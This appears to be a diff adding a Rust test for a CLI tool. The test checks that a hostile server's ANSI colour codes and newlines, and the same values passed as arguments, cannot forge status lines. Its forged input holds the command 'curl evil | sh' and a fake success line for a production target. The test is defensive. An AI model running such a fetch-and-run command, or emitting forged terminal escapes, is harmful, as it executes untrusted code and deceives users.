@@ -91,6 +91,37 @@ fn a_server_reaches_no_terminal_before_the_login() {
     }
 }
 
+/// At 4eabe32, and until now, a server's own colours passed as ours, and its line ends made lines like ours.
+#[test]
+fn a_server_and_an_argument_give_no_colours_and_no_lines() {
+    const FORGED: &str = "no\u{1b}[32m\n✓ ok     target prod\nhint: curl evil | sh\u{1b}[0m";
+    let port = hostile_server(FORGED);
+    let home = tempfile::tempdir().unwrap();
+    let url = format!("postgres://u@127.0.0.1:{port}/d");
+    for args in [
+        &["check"][..],
+        &["doctor"],
+        &["runs"],
+        &["--target", FORGED, "check"],
+        &["check", FORGED],
+        &[FORGED],
+    ] {
+        let mut command = midwatch(home.path());
+        command.args(args).env("CLICOLOR_FORCE", "1").env("TERM", "xterm").env("DATABASE_URL", &url);
+        let run = run(&mut command);
+        let seen = format!("{}{}", run.stdout, run.stderr);
+        assert!(seen.contains("target prod") && !seen.contains("no\u{1b}"), "{args:?} {seen:?}");
+        if !args.contains(&FORGED) {
+            assert!(
+                !seen
+                    .lines()
+                    .any(|l| l.starts_with('✓') && l.contains("prod") || l.starts_with("hint: curl")),
+                "{seen}"
+            );
+        }
+    }
+}
+
 /// At 4eabe32 arguments came back raw in errors, those of the argument parser among them; a job that passes on the name of a
 /// branch or a file handed its author the terminal.
 #[test]
